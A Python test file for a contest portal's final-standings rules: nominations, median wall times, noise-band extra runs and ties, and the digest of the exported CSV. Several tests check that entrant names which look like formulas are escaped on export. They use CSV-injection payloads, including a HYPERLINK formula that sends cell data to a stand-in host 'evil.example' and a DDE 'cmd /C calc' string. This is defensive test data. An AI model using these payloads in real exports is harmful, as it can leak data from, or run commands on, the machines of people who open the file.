"""The final standings' arithmetic on plain values: nominations' default, the median,
the noise-band rule (extra runs, then ties) and the canonical CSV's digest."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.hosts import noise
from portal.standings import rules

T0 = dt.datetime(2026, 8, 1, tzinfo=dt.UTC)


def scored(sid, entrant, walls, **fields):
    return rules.Scored(
        submission_id=sid,
        entrant_id=entrant,
        entrant=f"e{entrant}",
        submitted_at=T0 + dt.timedelta(minutes=sid),
        walls_ns=tuple(walls),
        **fields,
    )


def passing(sid, entrant, wall):
    return rules.Passing(sid, entrant, wall, T0 + dt.timedelta(minutes=sid))


def test_without_a_nomination_the_two_best_count():
    rows = [passing(1, 7, 300), passing(2, 7, 100), passing(3, 7, 200), passing(4, 8, 50)]
    assert rules.counted_submissions(rows, {}) == {7: [2, 3], 8: [4]}


def test_a_nomination_counts_instead_of_the_two_best():
    rows = [passing(1, 7, 300), passing(2, 7, 100), passing(3, 7, 200)]
    assert rules.counted_submissions(rows, {7: [1]}) == {7: [1]}


def test_a_nominated_submission_no_longer_passing_does_not_count():
    rows = [passing(2, 7, 100)]
    assert rules.counted_submissions(rows, {7: [1, 2]}) == {7: [2]}


def test_the_median_of_an_even_count_is_the_mean_of_the_middle_two():
    assert noise.median_ns([5, 1, 3]) == 3
    assert noise.median_ns([4, 1, 3, 10]) == 3  # (3 + 4) // 2: the one median of wall times
    with pytest.raises(ValueError):
        noise.median_ns([])


def test_ranks_by_median_with_each_entrant_once():
    decision = rules.decide(
        [
            scored(1, 1, [100, 900, 110]),  # median 110
            scored(2, 1, [300, 300, 300]),
            scored(3, 2, [200, 210, 190]),
        ],
        band_pct=1.0,
    )
    assert [(r.rank, r.entrant, r.submission_id, r.wall_time_ns) for r in decision.rows] == [
        (1, "e1", 1, 110),
        (2, "e2", 3, 200),
    ]
    assert decision.complete


def test_a_failed_final_run_drops_the_submission_with_its_reason():
    decision = rules.decide(
        [scored(1, 1, [100, 100], failure="wrong answers"), scored(2, 2, [200, 200, 200])],
        band_pct=1.0,
    )
    assert [r.entrant for r in decision.rows] == ["e2"]
    assert decision.dropped == {1: "wrong answers"}


def test_close_neighbours_get_extra_runs_first():
    decision = rules.decide(
        [scored(1, 1, [1000, 1000, 1000]), scored(2, 2, [1005, 1005, 1005])], band_pct=1.0
    )
    assert decision.extra_runs == [1, 2]
    assert not decision.complete


def test_still_close_after_extra_runs_they_tie():
    decision = rules.decide(
        [
            scored(1, 1, [1000] * 5, extra_done=True),
            scored(2, 2, [1005] * 5, extra_done=True),
            scored(3, 3, [2000] * 3),
        ],
        band_pct=1.0,
    )
    assert [(r.rank, r.tied) for r in decision.rows] == [(1, True), (1, True), (3, False)]
    assert decision.complete


def test_separated_after_extra_runs_they_do_not_tie():
    decision = rules.decide(
        [
            scored(1, 1, [1000] * 5, extra_done=True),
            scored(2, 2, [1100] * 5, extra_done=True),
        ],
        band_pct=1.0,
    )
    assert [(r.rank, r.tied) for r in decision.rows] == [(1, False), (2, False)]


def test_without_a_noise_band_nothing_ties():
    decision = rules.decide([scored(1, 1, [1000]), scored(2, 2, [1000])], band_pct=None)
    assert [(r.rank, r.tied) for r in decision.rows] == [(1, False), (2, False)]
    assert decision.complete


def test_pending_runs_keep_it_incomplete():
    decision = rules.decide([scored(1, 1, [1000], pending=2)], band_pct=1.0)
    assert not decision.complete


def test_the_digest_is_the_sha256_of_the_canonical_csv():
    rows = [rules.Row(1, 0, "alice", 5, 100, 3, False), rules.Row(1, 0, "bob", 6, 101, 3, True)]
    text = rules.canonical_csv(rows)
    assert text.splitlines()[0] == "rank,entrant,submission_id,wall_time_ns,runs,tied"
    assert text.splitlines()[2] == "1,bob,6,101,3,true"
    assert rules.digest_of(rows) == "sha256:" + hashlib.sha256(text.encode()).hexdigest()
    assert rules.digest_of(list(rows)) == rules.digest_of(rows)  # stable


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim your prize")'


def entrant_cells(text: str) -> list[str]:
    return [line[1] for line in csv.reader(io.StringIO(text))][1:]


@pytest.mark.parametrize("name", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tx=1"])
def test_a_name_that_starts_like_a_formula_is_exported_as_text(name: str) -> None:
    rows = [rules.Row(1, 0, name, 5, 100, 3, False)]

    (cell,) = entrant_cells(rules.canonical_csv(rows))

    assert cell == "'" + name  # a spreadsheet shows it as the text it is
    assert rules.neutral_cell("\r" + name) == "'\r" + name


def test_honest_names_are_exported_as_they_are() -> None:
    names = ["alice", "bob-2", "x=y", "Team +1", "o'brien", "ünïcode", "a,b", 'say "hi"']
    rows = [rules.Row(i + 1, 0, name, i, 100, 1, False) for i, name in enumerate(names)]

    assert entrant_cells(rules.canonical_csv(rows)) == names
    assert rules.canonical_csv(rows) == rules.canonical_csv(rows, neutral=False)


def test_standings_published_before_neutralising_still_match_their_digest() -> None:
    rows = [rules.Row(1, 0, HYPERLINK, 5, 100, 3, False), rules.Row(2, 0, "bob", 6, 101, 3, False)]
    before = (
        "sha256:" + hashlib.sha256(rules.canonical_csv(rows, neutral=False).encode()).hexdigest()
    )

    assert rules.published_csv(rows, before) == rules.canonical_csv(rows, neutral=False)
    assert rules.published_csv(rows, rules.digest_of(rows)) == rules.canonical_csv(rows)
    # A digest of neither form (a correction since): the canonical form, never the plain.
    assert rules.published_csv(rows, "sha256:" + "0" * 64) == rules.canonical_csv(rows)


entries = st.lists(
    st.tuples(
        st.lists(st.integers(min_value=1, max_value=10_000), min_size=1, max_size=7),
        st.booleans(),
    ),
    min_size=1,
    max_size=12,
)


@given(entries, st.floats(min_value=0.0, max_value=20.0))
def test_ranks_never_decrease_and_ties_are_within_the_band(items, band):
    decision = rules.decide(
        [scored(i + 1, i + 1, walls, extra_done=done) for i, (walls, done) in enumerate(items)],
        band_pct=band,
    )
    rows = decision.rows
    assert len(rows) == len(items)
    for index, row in enumerate(rows):
        assert 1 <= row.rank <= index + 1
        if index:
            previous = rows[index - 1]
            assert previous.wall_time_ns <= row.wall_time_ns
            if row.rank == previous.rank:
                assert row.tied and previous.tied
                assert rules.close(previous.wall_time_ns, row.wall_time_ns, band)
            else:
                assert row.rank == index + 1
    # every close pair either asked for extra runs or tied
    for left, right in itertools.pairwise(rows):
        if rules.close(left.wall_time_ns, right.wall_time_ns, band):
            assert right.rank == left.rank or {
                left.submission_id,
                right.submission_id,
            } & set(decision.extra_runs)
